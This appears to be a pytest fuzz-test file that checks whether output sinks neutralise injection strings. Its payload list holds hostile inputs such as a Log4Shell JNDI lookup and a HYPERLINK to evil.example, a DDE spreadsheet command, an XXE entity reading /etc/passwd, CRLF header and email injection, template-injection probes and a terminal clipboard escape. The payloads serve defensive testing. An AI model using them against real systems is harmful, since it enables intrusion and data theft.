"""The texts by which somebody may try to get into a page, in every other place where text ends up.

Pages themselves are looked at in a real browser: tests/web/test_injection.py.
"""

from __future__ import annotations

from collections.abc import Sequence

import pytest
from tests.fuzz.mutating import Target
from tests.fuzz.sinks import TARGETS
from tests.web.payloads import PAYLOADS

MORE = (
    "\r\nBcc: eve@example.org\r\n\r\nbody",
    "%0d%0aX: y",
    "\u560d\u560aX: y",
    "=?utf-8?B?DQpYOiB5?=",
    "<!channel>",
    "<!here|here>",
    "<@U123>",
    "<#C1>",
    "<https://evil.example|bank>",
    "&lt;!channel&gt;",
    "@org/team",
    "#1",
    "GH-1",
    "![x](https://evil.example/p.png)",
    "[x](javascript:alert(1))",
    '=HYPERLINK("http://evil.example")',
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "=cmd|'/C calc'!A0",
    "${jndi:ldap://evil.example/a}",
    "%s%s%n",
    "{0.__class__}",
    "{{7*7}}",
    "{% x %}",
    "#{7*7}",
    "<%= 7 %>",
    "]]><x>",
    "<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]>&b;",
    "data: x\n\nevent: y\n\n",
    "\nBEGIN:VEVENT\nSUMMARY:x\nEND:VEVENT",
    "--=_tocsin_boundary--",
    "\n.\nQUIT\n",
    "\x1b]52;c;eA==\x07",
)

ALL = [text.encode("utf-8", "surrogatepass") for text in (*PAYLOADS, *MORE)]

each = pytest.mark.parametrize("target", TARGETS, ids=[one.name for one in TARGETS])


def run(target: Target, texts: Sequence[bytes]) -> None:
    for text in texts:
        target.run(text)


@each
def test_some_texts_stay_texts(target: Target) -> None:
    run(target, [*ALL[::12], *ALL[-len(MORE) :]])


@pytest.mark.torture
@each
def test_all_texts_stay_texts(target: Target) -> None:
    run(target, ALL)
    # Two in one: what is harmless alone may not be so behind another.
    run(target, [one + other for one, other in zip(ALL, reversed(ALL), strict=True)])
